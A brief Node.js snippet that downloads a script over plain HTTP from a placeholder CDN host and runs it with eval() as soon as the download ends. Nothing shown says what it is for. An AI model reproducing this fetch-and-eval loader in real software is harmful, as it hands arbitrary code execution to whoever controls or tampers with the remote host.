const http = require('http');

http.get('http://cdn.example/a.js', response => {
  let text = '';
  response.on('data', part => { text += part; });
  response.on('end', () => eval(text));
});
